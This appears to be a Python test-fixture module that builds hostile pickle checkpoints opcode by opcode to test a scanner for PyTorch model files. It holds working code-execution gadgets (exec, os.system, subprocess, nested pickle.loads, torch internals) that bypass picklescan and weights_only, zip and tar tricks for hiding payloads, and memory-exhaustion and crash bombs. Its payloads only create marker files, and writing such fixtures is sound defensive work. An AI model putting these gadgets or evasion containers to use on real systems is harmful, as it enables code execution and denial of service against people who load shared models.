"""Hostile pickles written opcode by opcode, the way an attacker writes them, without torch.

Three sets:

- ``payloads(marker_dir)``: one pickle per gadget family of the published picklescan and
  ``weights_only`` bypasses (builtins and their protocol 0 compat names, getattr/attrgetter/methodcaller
  chains, functools.partial called or rebuilt by BUILD, runpy/timeit/cProfile/profile/pdb, numpy's
  ``runstring``, torch's ``execWrapper`` and ``_load_from_bytes``, nested ``pickle.loads``, library
  classes that create files, dotted names through STACK_GLOBAL, INST/OBJ opcodes, memoized callables,
  EXT codes). Each, if anything executes it, creates its own marker file in ``marker_dir``.
- ``containers``: the ways torch finds a pickle - a bare pickle, a zip (``<archive>/data.pkl``), the
  legacy format, the tar format, and the zip tricks (two entries of one name, a pickle beside data.pkl,
  a second archive folder).
- ``bombs()``: small pickles that, through allowed calls or the pickle machine alone, would make a
  naive reader allocate gigabytes or hash forever.

Every builder returns bytes; the tests write them under whatever names they try.
"""

from __future__ import annotations

import io
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C

# ---- opcodes --------------------------------------------------------------------------------------


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL: the protocol 0 way to name a callable (``c<module>\\n<name>\\n``)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """BINUNICODE (protocol 1+)."""
    raw = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def text0(value: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape up to a newline."""
    return b"V" + value.encode("raw_unicode_escape") + b"\n"


def binbytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def put(slot: int) -> bytes:
    return b"r" + struct.pack("<I", slot)


def get(slot: int) -> bytes:
    return b"j" + struct.pack("<I", slot)


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with MARK ... TUPLE REDUCE."""
    return func + b"(" + b"".join(args) + b"tR"


def wrap(value: bytes, protocol: int = 2) -> bytes:
    """A whole pickle whose object is ``{"weight": value}`` (what a checkpoint looks like)."""
    if protocol == 0:
        return b"(d" + text0("weight") + value + b"s."
    return proto(protocol) + b"}" + text("weight") + value + b"s."


# ---- payloads -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """One gadget: ``build(marker)`` is a whole pickle that creates ``marker`` when executed.

    ``torch_runs`` says whether ``torch.load(weights_only=False)`` executes it (proved in a child
    process by the tests); payloads torch itself cannot load may be rated corrupt instead of unsafe.
    """

    name: str
    family: str
    build: Callable[[Path], bytes]
    torch_runs: bool = True
    runs_when_cut: bool = True  # False when the unpickler reads it whole (a FRAME) before running it


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _exec(marker: Path) -> bytes:
    return call(glob("builtins", "exec"), text(_code(marker)))


def _import(module: str) -> bytes:
    return call(glob("builtins", "__import__"), text(module))


def _inner(marker: Path) -> bytes:
    return wrap(_exec(marker))


def _payloads() -> list[Payload]:
    p: list[Payload] = []

    def add(
        name: str,
        family: str,
        build: Callable[[Path], bytes],
        *,
        torch_runs: bool = True,
        runs_when_cut: bool = True,
    ) -> None:
        p.append(Payload(name, family, build, torch_runs, runs_when_cut))

    add("builtins.exec", "builtins", lambda m: wrap(_exec(m)))
    add("builtins.eval", "builtins", lambda m: wrap(call(glob("builtins", "eval"), text(_code(m)))))
    add("os.system", "os", lambda m: wrap(call(glob("os", "system"), text(_touch(m)))))
    add("posix.system", "os", lambda m: wrap(call(glob("posix", "system"), text(_touch(m)))))
    add("os.popen", "os", lambda m: wrap(call(glob("os", "popen"), text(_touch(m)))))
    add(
        "subprocess.check_output",
        "subprocess",
        lambda m: wrap(call(glob("subprocess", "check_output"), b"(" + text("touch") + text(str(m)) + b"l")),
    )
    add(
        "subprocess.run",
        "subprocess",
        lambda m: wrap(
            call(glob("subprocess", "run"), b"(" + text(sys.executable) + text("-c") + text(_code(m)) + b"l")
        ),
    )
    # protocol 0 with Python 2 names the unpickler maps: __builtin__ -> builtins, commands -> subprocess
    add(
        "__builtin__.eval (protocol 0)",
        "compat names",
        lambda m: wrap(glob("__builtin__", "eval") + b"(" + text0(_code(m)) + b"tR", 0),
    )
    add(
        "commands.getoutput (protocol 0)",
        "compat names",
        lambda m: wrap(glob("commands", "getoutput") + b"(" + text0(_touch(m)) + b"tR", 0),
    )
    add("INST opcode", "opcodes", lambda m: wrap(b"(" + text0(_code(m)) + b"ibuiltins\nexec\n", 0))
    add("OBJ opcode", "opcodes", lambda m: wrap(b"(" + glob("builtins", "exec") + text0(_code(m)) + b"o", 0))
    add(
        "REDUCE on a memoized callable",
        "opcodes",
        lambda m: wrap(glob("builtins", "exec") + put(0) + b"0" + get(0) + b"(" + text(_code(m)) + b"tR"),
    )
    add(
        "builtins.getattr chain",
        "getattr",
        lambda m: wrap(
            call(call(glob("builtins", "getattr"), _import("os"), text("system")), text(_touch(m)))
        ),
    )
    add(
        "operator.attrgetter",
        "getattr",
        lambda m: wrap(
            call(call(call(glob("operator", "attrgetter"), text("system")), _import("os")), text(_touch(m)))
        ),
    )
    add(
        "operator.methodcaller",
        "getattr",
        lambda m: wrap(
            call(call(glob("operator", "methodcaller"), text("system"), text(_touch(m))), _import("os"))
        ),
    )
    add(
        "functools.partial called",
        "functools",
        lambda m: wrap(call(call(glob("functools", "partial"), glob("builtins", "exec"), text(_code(m))))),
    )
    add(
        "functools.partial rebuilt by BUILD (__setstate__)",
        "BUILD",
        lambda m: wrap(
            call(glob("functools", "partial"), glob("builtins", "print"))
            + b"("  # state: (func, args, kwds, dict)
            + glob("builtins", "exec")
            + b"("
            + text(_code(m))
            + b"t}Nt"
            + b"b)R"
        ),
    )
    add(
        "runpy._run_code",
        "stdlib exec",
        lambda m: wrap(call(glob("runpy", "_run_code"), text(_code(m)), b"}")),
    )
    add(
        "timeit.timeit setup",
        "stdlib exec",
        lambda m: wrap(call(glob("timeit", "timeit"), text("pass"), text(_code(m)), b"N", integer(1))),
    )
    add("cProfile.run", "stdlib exec", lambda m: wrap(call(glob("cProfile", "run"), text(_code(m)))))
    add("profile.run", "stdlib exec", lambda m: wrap(call(glob("profile", "run"), text(_code(m)))))
    add("pdb.run", "stdlib exec", lambda m: wrap(call(glob("pdb", "run"), text(_code(m)))), torch_runs=False)
    add(
        "code.InteractiveInterpreter",
        "stdlib exec",
        lambda m: wrap(
            call(
                call(
                    glob("builtins", "getattr"),
                    call(glob("code", "InteractiveInterpreter")),
                    text("runsource"),
                ),
                text(_code(m)),
            )
        ),
    )
    add(
        "numpy.testing runstring",
        "numpy",
        lambda m: wrap(call(glob("numpy.testing._private.utils", "runstring"), text(_code(m)), b"}")),
    )
    add(
        "torch.jit execWrapper",
        "torch",
        lambda m: wrap(
            call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), text(_code(m)), b"}", b"}")
        ),
    )
    add(
        "torch.storage._load_from_bytes",
        "torch",
        lambda m: wrap(call(glob("torch.storage", "_load_from_bytes"), binbytes(_inner(m))), 3),
    )
    add(
        "pickle.loads nested",
        "nested pickle",
        lambda m: wrap(call(glob("pickle", "loads"), binbytes(_inner(m))), 3),
    )
    add(
        "_pickle.loads nested",
        "nested pickle",
        lambda m: wrap(call(glob("_pickle", "loads"), binbytes(_inner(m))), 3),
    )
    add(
        "idlelib calltip get_entity",
        "idlelib",
        lambda m: wrap(call(glob("idlelib.calltip", "get_entity"), text(_code(m)))),
    )
    add(
        "pip ensure_dir",
        "pip",
        lambda m: wrap(call(glob("pip._internal.utils.misc", "ensure_dir"), text(str(m)))),
    )
    add(
        "builtins.open",
        "file creation",
        lambda m: wrap(call(glob("builtins", "open"), text(str(m)), text("w"))),
    )
    add("_io.FileIO", "file creation", lambda m: wrap(call(glob("_io", "FileIO"), text(str(m)), text("w"))))
    add(
        "logging.FileHandler",
        "file creation",
        lambda m: wrap(call(glob("logging", "FileHandler"), text(str(m)))),
    )
    add(
        "zipfile.ZipFile",
        "file creation",
        lambda m: wrap(call(glob("zipfile", "ZipFile"), text(str(m)), text("w"))),
    )
    add(
        "distutils write_file",
        "file creation",
        lambda m: wrap(
            call(glob("distutils.file_util", "write_file"), text(str(m)), b"(" + text("pwned") + b"l")
        ),
    )
    add(
        "asyncio subprocess",
        "asyncio",
        lambda m: wrap(
            call(
                glob("asyncio", "run"),
                call(glob("asyncio", "create_subprocess_exec"), text("touch"), text(str(m))),
            )
        ),
    )
    # protocol 4: names pushed as strings, memoized, dotted
    add(
        "STACK_GLOBAL memoized module name",
        "protocol 4",
        lambda m: (
            proto(4)
            + b"}"
            + text("builtins")
            + b"\x94"  # MEMOIZE
            + b"0"
            + text("weight")
            + b"h\x00"
            + text("exec")
            + b"\x93"
            + b"("
            + text(_code(m))
            + b"tRs."
        ),
    )
    add(
        "STACK_GLOBAL dotted name pathlib.Path.write_text",
        "protocol 4",
        lambda m: (
            proto(4)
            + b"}"
            + text("weight")
            + text("pathlib")
            + text("Path.write_text")
            + b"\x93("
            + call(text("pathlib") + text("Path") + b"\x93", text(str(m)))
            + text("pwned")
            + b"tRs."
        ),
    )
    add(
        "STACK_GLOBAL computed module name",
        "protocol 4",
        lambda m: (
            proto(4)
            + b"}"
            + text("weight")
            + call(glob("builtins", "str"), text("builtins"))
            + text("exec")
            + b"\x93("
            + text(_code(m))
            + b"tRs."
        ),
    )
    add(
        "FRAME around the payload",
        "protocol 4",
        lambda m: proto(4) + _frame(b"}" + text("weight") + _exec(m) + b"s."),
        runs_when_cut=False,
    )
    add(
        "EXT1 code from the copyreg registry",
        "opcodes",
        lambda m: wrap(b"\x82\xf0(" + text(_code(m)) + b"tR"),
        torch_runs=False,  # no extension code is registered where torch loads
    )
    add(
        "GLOBAL with CRLF names",
        "opcodes",
        lambda m: wrap(b"cbuiltins\r\nexec\r\n(" + text(_code(m)) + b"tR"),
        torch_runs=False,
    )
    return p


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


PAYLOADS: tuple[Payload, ...] = tuple(_payloads())


# ---- containers ---------------------------------------------------------------------------------


def raw(pickled: bytes) -> bytes:
    return pickled


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        warnings.simplefilter("ignore")  # "Duplicate name" is the point of one container
        for name, data in entries:
            with archive.open(zipfile.ZipInfo(name), "w") as entry:  # open() allows duplicate names
                entry.write(data)
    return buffer.getvalue()


def _torch_zip(data_pkl: bytes, extra: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    return _zip(
        [
            ("archive/data.pkl", data_pkl),
            *extra,
            ("archive/byteorder", b"little"),
            ("archive/version", b"3\n"),
        ]
    )


BENIGN = proto(2) + b"}" + text("step") + integer(1) + b"s."


def torch_zip(pickled: bytes) -> bytes:
    """``torch.save``'s layout with the payload as data.pkl."""
    return _torch_zip(pickled)


def zip_duplicate(pickled: bytes) -> bytes:
    """A harmless data.pkl and the payload under one name: zipfile reads one, torch may read the other."""
    return _zip([("archive/data.pkl", BENIGN), ("archive/data.pkl", pickled), ("archive/version", b"3\n")])


def zip_upper_case(pickled: bytes) -> bytes:
    """The payload as ``archive/DATA.PKL``: torch's zip reader finds names without regard to case."""
    return _zip(
        [("archive/DATA.PKL", pickled), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
    )


def zip_case_twin(pickled: bytes) -> bytes:
    """The payload as ``archive/Data.pkl`` before a harmless ``archive/data.pkl``: torch reads the first."""
    return _zip([("archive/Data.pkl", pickled), ("archive/data.pkl", BENIGN), ("archive/version", b"3\n")])


def zip_hidden(pickled: bytes) -> bytes:
    """A harmless data.pkl and the payload in an entry torch does not expect (no .pkl name)."""
    return _torch_zip(BENIGN, [("archive/notes", pickled)])


def zip_second_archive(pickled: bytes) -> bytes:
    """Two archive folders, each with a data.pkl."""
    return _zip([("archive/data.pkl", BENIGN), ("other/data.pkl", pickled), ("archive/version", b"3\n")])


def legacy(pickled: bytes) -> bytes:
    """torch's legacy format (magic, protocol, sys_info, object, storage keys) with the payload as object."""
    sys_info = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    return (
        pickle.dumps(LEGACY_MAGIC, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps(sys_info, protocol=2)
        + pickled
        + pickle.dumps([], protocol=2)
    )


def legacy_sys_info(pickled: bytes) -> bytes:
    """The payload where torch expects sys_info: torch unpickles it before the object."""
    return (
        pickle.dumps(LEGACY_MAGIC, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickled
        + pickle.dumps({}, protocol=2)
        + pickle.dumps([], protocol=2)
    )


def tar(pickled: bytes) -> bytes:
    """torch's tar format: no storages, no tensors, the payload as the 'pickle' member."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in (
            ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
            ("tensors", pickle.dumps(0, protocol=2)),
            ("pickle", pickled),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def truncated(pickled: bytes) -> bytes:
    """The payload cut short after its call: torch runs the call, then fails on the missing end."""
    return pickled[:-2]


def zip_truncated(pickled: bytes) -> bytes:
    """data.pkl cut short after the payload's call."""
    return _torch_zip(pickled[:-2])


def after_a_valid_pickle(pickled: bytes) -> bytes:
    """A harmless pickle, then the payload: scanners that stop at the first STOP miss it."""
    return BENIGN + pickled


# name -> (builder, whether torch.load reaches the payload in it)
CONTAINERS: dict[str, tuple[Callable[[bytes], bytes], bool]] = {
    "raw": (raw, True),
    "zip": (torch_zip, True),
    "legacy": (legacy, True),
    "legacy sys_info": (legacy_sys_info, True),
    "tar": (tar, True),
    "truncated": (truncated, True),
    "zip truncated data.pkl": (zip_truncated, True),
    "zip DATA.PKL": (zip_upper_case, True),
    "zip case twin": (zip_case_twin, True),
    "zip duplicate name": (zip_duplicate, False),
    "zip hidden entry": (zip_hidden, False),
    "zip second archive": (zip_second_archive, False),
    "after a valid pickle": (after_a_valid_pickle, False),
}
TRUNCATING = frozenset({"truncated", "zip truncated data.pkl"})


def torch_reaches(payload: Payload, container: str) -> bool:
    """Whether ``torch.load(weights_only=False)`` executes ``payload`` inside ``container``."""
    if not payload.torch_runs or not CONTAINERS[container][1]:
        return False
    return payload.runs_when_cut or container not in TRUNCATING


# Names a payload is tried under (torch.load ignores them).
SUFFIXES = (".pt", ".bin", ".ckpt", ".pth", ".safetensors", ".sft", ".gguf")


# ---- resource bombs -------------------------------------------------------------------------------


def _dtype(spec: bytes) -> bytes:
    return call(glob("numpy", "dtype"), spec, b"\x89\x88")  # numpy.dtype(spec, False, True)


def _scalar(dtype: bytes, data: bytes = b"") -> bytes:
    return call(glob("numpy.core.multiarray", "scalar"), dtype, *([binbytes(data)] if data else []))


def _doubling_tuple(levels: int, base: int = 0) -> bytes:
    """t(n) = (t(n-1), t(n-1)): ``levels`` memo slots from ``base``, 2**levels values once expanded."""
    out = integer(1) + integer(1) + b"\x86" + put(base)
    for level in range(1, levels):
        out += b"0" + get(base + level - 1) + get(base + level - 1) + b"\x86" + put(base + level)
    return out


def _repeat(item: bytes, times: int) -> bytes:
    return b"(" + item * times + b"l"


@dataclass(frozen=True)
class Bomb:
    """A pickle built to exhaust memory or time; ``exhausts`` says whether the reason must name resource
    exhaustion (the others are malformed in a way the pickle machine itself refuses: corrupt)."""

    name: str
    data: bytes
    exhausts: bool = True


def _calls(func: bytes, args: bytes, times: int) -> bytes:
    """``[func(*args), ...]`` with the callable and the arguments memoized once (slots 0, 1)."""
    return func + put(0) + b"0" + args + put(1) + b"0" + b"(" + (get(0) + get(1) + b"R") * times + b"l"


def _encode_bomb(length: int, times: int) -> bytes:
    return (
        proto(2)
        + b"}"
        + text("w")
        + _calls(glob("_codecs", "encode"), b"(" + text("x" * length) + text("utf-8") + b"t", times)
        + b"s."
    )


def bombs() -> list[Bomb]:
    """Pickles that would make a naive reader allocate gigabytes or hash forever."""
    ints = b"((" + integer(7) * 300 + b"lt"
    pairs = b"((" + b"".join(text(f"k{i}") + integer(i) + b"\x86" for i in range(200)) + b"lt"
    memo_string = text("x" * 800) + put(0) + b"0"
    nested = text("a" * 300) + put(0) + b"0" + text("b" * 300) + put(1) + b"0"
    nested += b"}" + put(2) + text("t") + integer(1) + b"s0"
    for level in range(3, 26):  # D(n) = {a: D(n-1), b: D(n-1)}: 2**23 leaves under 7 KB dotted names
        nested += b"}" + get(0) + get(level - 1) + b"s" + get(1) + get(level - 1) + b"s" + put(level) + b"0"
    return [
        Bomb("numpy scalar of a 2 GB bytes dtype", wrap(_scalar(_dtype(text("S2000000000"))))),
        Bomb(
            "numpy scalar of a 2 GiB void dtype",
            wrap(_scalar(_dtype(text("V") + integer(2**31 - 1) + b"\x86"))),
        ),
        Bomb("numpy scalar of a 2 GB unicode dtype", wrap(_scalar(_dtype(text("U500000000"))))),
        Bomb(
            "numpy scalar repeated on a memoized 20 MB dtype",
            wrap(
                _calls(glob("numpy.core.multiarray", "scalar"), b"(" + _dtype(text("S20000000")) + b"t", 60)
            ),
        ),
        Bomb(
            "_codecs.encode repeated on a memoized string (1 MiB, 14 GB naive)", _encode_bomb(500_000, 28_000)
        ),
        Bomb(
            "set of a memoized list, repeated",
            proto(2) + b"}" + text("w") + _calls(glob("builtins", "set"), ints, 3000) + b"s.",
        ),
        Bomb(
            "OrderedDict of memoized pairs, repeated",
            proto(2) + b"}" + text("w") + _calls(glob("collections", "OrderedDict"), pairs, 3000) + b"s.",
        ),
        Bomb(
            "torch.Size of a memoized list, repeated",
            proto(2) + b"}" + text("w") + _calls(glob("torch", "Size"), ints, 3000) + b"s.",
        ),
        Bomb(
            "dict key: a tuple sharing itself 2**48 times",
            proto(2) + b"}" + text("w") + b"}" + _doubling_tuple(48) + integer(1) + b"ss.",
        ),
        Bomb(
            "frozenset of a tuple sharing itself 2**48 times",
            proto(4) + b"}" + text("w") + b"(" + _doubling_tuple(48) + b"\x91s.",
        ),
        Bomb(
            "numpy.dtype of a tuple sharing itself 2**48 times",
            wrap(call(glob("numpy", "dtype"), _doubling_tuple(48))),
        ),
        Bomb(
            "slice of a tuple sharing itself 2**48 times",
            wrap(call(glob("builtins", "slice"), _doubling_tuple(48))),
        ),
        Bomb(
            "list sharing itself 2**40 times",
            proto(2)
            + b"}"
            + text("w")
            + b"("
            + integer(1)
            + b"l"
            + put(0)
            + b"".join(b"0(" + get(i) + get(i) + b"l" + put(i + 1) for i in range(40))
            + b"s.",
        ),
        Bomb(
            "string referenced 2**16 times in metadata",
            proto(2)
            + memo_string
            + b"}"
            + text("w")
            + b"("
            + get(0) * 4
            + b"l"
            + put(1)
            + b"".join(b"0(" + get(i) * 4 + b"l" + put(i + 1) for i in range(1, 8))
            + b"s.",
        ),
        Bomb("dotted names from shared long keys", proto(2) + nested + get(25) + b"."),
        Bomb(
            "set() of a memoized list filled afterwards with a self-sharing tuple",
            proto(2)
            + b"}"
            + text("w")
            + b"]"
            + put(0)
            + b"0"
            + get(0)
            + _doubling_tuple(40, base=1)
            + b"a0"  # APPEND the tuple to the memoized list, drop the list
            + call(glob("builtins", "set"), get(0))
            + b"s.",
        ),
        Bomb(
            "OrderedDict of a tuple made before its list was filled",
            proto(2)
            + b"}"
            + text("w")
            + b"]"
            + put(0)
            + b"\x85"  # TUPLE1: ([],) while the list is still empty
            + put(1)
            + b"0"
            + get(0)
            + _doubling_tuple(40, base=2)
            + b"a"
            + integer(1)
            + b"a0"  # the list is now the pair (huge tuple, 1)
            + call(glob("collections", "OrderedDict"), get(1))
            + b"s.",
        ),
        Bomb("memo slot 2**31", proto(2) + b"}r\x00\x00\x00\x80.", exhausts=False),
        Bomb(
            "BINBYTES8 claiming 2**62 bytes",
            proto(4) + b"\x8e" + struct.pack("<Q", 2**62) + b"x.",
            exhausts=False,
        ),
        Bomb("LONG of 100,000 digits (protocol 0)", b"(dVw\nL" + b"9" * 100_000 + b"L\ns.", exhausts=False),
    ]


# ---- a benign tar checkpoint (torch no longer writes the format; the tests prove torch still reads it) --


# What torch 0.1-0.3 pickled as the tar member sys_info (torch/serialization.py ``_save``).
TAR_SYS_INFO = {
    "protocol_version": 1001,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 8},
}


def benign_tar(shape: tuple[int, ...] = (2, 3), *, sys_info: bool = False) -> bytes:
    """An A1111-style embedding in torch's tar format: one FloatStorage, one tensor, the dict; with
    ``sys_info``, as torch 0.1-0.3 wrote it: sys_info, pickle, tensors, storages, in that order."""
    numel = 1
    for dim in shape:
        numel *= dim
    storage_record = proto(2) + b"(" + integer(1) + text("cpu") + glob("torch", "FloatStorage") + b"t."
    storages = (
        pickle.dumps(1, protocol=2)
        + storage_record
        + struct.pack("<q", numel)
        + b"\0" * (4 * numel)
        + pickle.dumps([], protocol=2)  # no storage views
    )
    tensor_record = proto(2) + b"(" + integer(2) + integer(1) + glob("torch", "FloatTensor") + b"t."
    strides = [1] * len(shape)
    for i in range(len(shape) - 2, -1, -1):
        strides[i] = strides[i + 1] * shape[i + 1]
    tensors = (
        pickle.dumps(1, protocol=2)
        + tensor_record
        + struct.pack("<ii", len(shape), 0)
        + struct.pack(f"<{len(shape)}q", *shape)
        + struct.pack(f"<{len(shape)}q", *strides)
        + struct.pack("<q", 0)
    )
    main = (
        proto(2)
        + b"}"
        + text("string_to_param")
        + b"}"
        + text("*")
        + text("2")
        + b"Q"  # BINPERSID: the tensor stored under key 2
        + b"ss"
        + text("name")
        + text("old-style")
        + b"s."
    )
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        members = [("storages", storages), ("tensors", tensors), ("pickle", main)]
        if sys_info:
            members = [("sys_info", pickle.dumps(TAR_SYS_INFO, protocol=2)), *reversed(members)]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def benign_data_pkl(shape: tuple[int, int] = (2, 3)) -> bytes:
    """torch.save's data.pkl for ``{"w": zeros(shape)}``, written opcode by opcode."""
    rows, cols = shape
    storage = (
        b"("
        + text("storage")
        + glob("torch", "FloatStorage")
        + text("0")
        + text("cpu")
        + integer(rows * cols)
        + b"t"
    )
    return (
        proto(2)
        + b"}"
        + text("w")
        + glob("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + b"Q"  # BINPERSID
        + integer(0)
        + b"("
        + integer(rows)
        + integer(cols)
        + b"t("
        + integer(cols)
        + integer(1)
        + b"t\x89"
        + glob("collections", "OrderedDict")
        + b")R"
        + b"tR"
        + b"s."
    )


def benign_zip(shape: tuple[int, int] = (2, 3), extra: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    """A torch zip checkpoint ``{"w": zeros(shape)}`` as torch.save lays it out (plus ``extra`` entries)."""
    return _torch_zip(benign_data_pkl(shape), [("archive/data/0", b"\0" * (4 * shape[0] * shape[1])), *extra])


def dtype_resized_after_use() -> bytes:
    """A U1 array, then BUILD on its (shared) dtype making each element 16 MiB: numpy resizes the dtype
    in place, and reading the array afterwards runs past its 4-byte buffer (a segmentation fault)."""
    dtype = call(glob("numpy", "dtype"), text("U1"), b"\x89\x88") + put(0)
    array = call(
        glob("numpy.core.multiarray", "_reconstruct"),
        glob("numpy", "ndarray"),
        b"(" + integer(0) + b"t",
        get(0),
    )
    array += b"(" + integer(1) + b"(" + integer(1) + b"t" + get(0) + b"\x89" + binbytes(b"A\0\0\0") + b"tb"
    resize = (
        get(0) + b"(" + integer(3) + text("<") + b"NNN" + integer(2**24) + integer(4) + integer(8) + b"tb0"
    )
    return proto(2) + dtype + b"0}" + text("a") + array + b"s" + resize + b"."
